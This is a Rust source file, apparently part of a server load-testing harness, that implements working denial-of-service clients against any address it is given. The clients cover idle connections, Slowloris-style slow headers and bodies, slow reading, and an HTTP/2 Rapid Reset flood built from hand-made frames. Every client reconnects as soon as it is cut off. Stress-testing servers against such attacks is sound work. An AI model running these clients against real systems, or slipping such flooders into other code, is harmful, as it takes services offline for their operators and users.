//! Clients that mean ill, in a process of their own: what they cost is not the load's to pay.
//!
//! Each kind is set up against one address, says `ready`, and goes on until its standard input ends. Whoever is cut off
//! comes again.

use std::io::Write as _;
use std::net::SocketAddr;
use std::time::Duration;

use anyhow::Context as _;
use clap::{Args, ValueEnum};
use serde::Serialize;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::{JoinSet, spawn_local};
use tokio::time::sleep;

use crate::scaling::raise_files;

/// How an HTTP/2 connection starts: preface, and settings without a word.
const HELLO: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
/// What a slow client says at a time, and how long it rests.
const REST: Duration = Duration::from_millis(900);
/// How long one that was cut off takes to come again.
const AGAIN: Duration = Duration::from_millis(20);

/// What they do.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, ValueEnum)]
#[serde(rename_all = "kebab-case")]
pub(crate) enum Kind {
    /// Say nothing
    Idle,
    /// Send a head byte by byte
    SlowHeader,
    /// Send a body byte by byte
    SlowBody,
    /// Ask for much and read nothing
    SlowReading,
    /// Open HTTP/2 streams and reset them at once
    RapidReset,
}

/// Whom they attack, and how many.
#[derive(Args)]
pub(crate) struct Arguments {
    kind: Kind,
    address: SocketAddr,
    /// What is asked for
    path: String,
    connections: usize,
}

/// Attacks until standard input ends.
pub(crate) async fn run(arguments: &Arguments) -> anyhow::Result<()> {
    raise_files();
    let mut connecting = JoinSet::new();
    for _ in 0..arguments.connections {
        let (kind, address, path) = (arguments.kind, arguments.address, arguments.path.clone());
        let stream = connect(kind, address)
            .await
            .with_context(|| format!("of {} connections", arguments.connections))?;
        connecting.spawn_local(async move {
            let mut stream = stream;
            loop {
                // Being cut off is what an attacker reckons with.
                let _cut = attack(kind, stream, &path).await;
                stream = loop {
                    sleep(AGAIN).await;
                    if let Ok(stream) = connect(kind, address).await {
                        break stream;
                    }
                };
            }
        });
    }
    println!("ready");
    std::io::stdout().flush()?;
    let (tell, ended) = tokio::sync::oneshot::channel();
    std::thread::spawn(move || {
        let _end = std::io::stdin().read_line(&mut String::new());
        let _gone = tell.send(());
    });
    let _ended = ended.await;
    Ok(())
}

async fn connect(kind: Kind, address: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    if kind == Kind::SlowReading {
        socket.set_recv_buffer_size(4096)?;
    }
    socket.connect(address).await
}

async fn attack(kind: Kind, mut stream: TcpStream, path: &str) -> std::io::Result<()> {
    match kind {
        Kind::Idle => {
            stream.read_u8().await?;
        }
        Kind::SlowHeader => {
            stream
                .write_all(format!("GET {path} HTTP/1.1\r\nhost: a\r\nx-slow: ").as_bytes())
                .await?;
            trickle(stream).await?;
        }
        Kind::SlowBody => {
            let head = format!("GET {path} HTTP/1.1\r\nhost: a\r\ncontent-length: 100000\r\n\r\n");
            stream.write_all(head.as_bytes()).await?;
            trickle(stream).await?;
        }
        Kind::SlowReading => {
            let request = format!("GET {path} HTTP/1.1\r\nhost: a\r\n\r\n");
            stream.write_all(request.as_bytes()).await?;
            // Not to be noticed by a reset, but by nothing being read.
            std::future::pending::<()>().await;
        }
        Kind::RapidReset => reset(stream, path).await?,
    }
    Ok(())
}

/// A byte, a rest, a byte, until it is cut off.
async fn trickle(stream: TcpStream) -> std::io::Result<()> {
    let (mut reads, mut writes) = stream.into_split();
    let cut = spawn_local(async move { reads.read_to_end(&mut Vec::new()).await });
    while !cut.is_finished() {
        writes.write_all(b"x").await?;
        sleep(REST).await;
    }
    Ok(())
}

/// As many requests as go, each taken back at once.
async fn reset(stream: TcpStream, path: &str) -> std::io::Result<()> {
    let (mut reads, mut writes) = stream.into_split();
    let cut = spawn_local(async move { reads.read_to_end(&mut Vec::new()).await });
    writes.write_all(HELLO).await?;
    let mut block = vec![0x82, 0x86, 0x01, 1, b'a', 0x04];
    block.push(u8::try_from(path.len()).unwrap_or(1));
    block.extend(path.as_bytes());
    for number in (1_u32..).step_by(2) {
        let mut both = frame(1, 5, number, &block);
        both.extend(frame(3, 0, number, &[0, 0, 0, 8]));
        writes.write_all(&both).await?;
        if cut.is_finished() || number > 1 << 30 {
            break;
        }
    }
    Ok(())
}

fn frame(kind: u8, flags: u8, stream: u32, content: &[u8]) -> Vec<u8> {
    let length = u32::try_from(content.len()).unwrap_or(0).to_be_bytes();
    let mut frame: Vec<u8> = length.into_iter().skip(1).chain([kind, flags]).collect();
    frame.extend(stream.to_be_bytes());
    frame.extend(content);
    frame
}
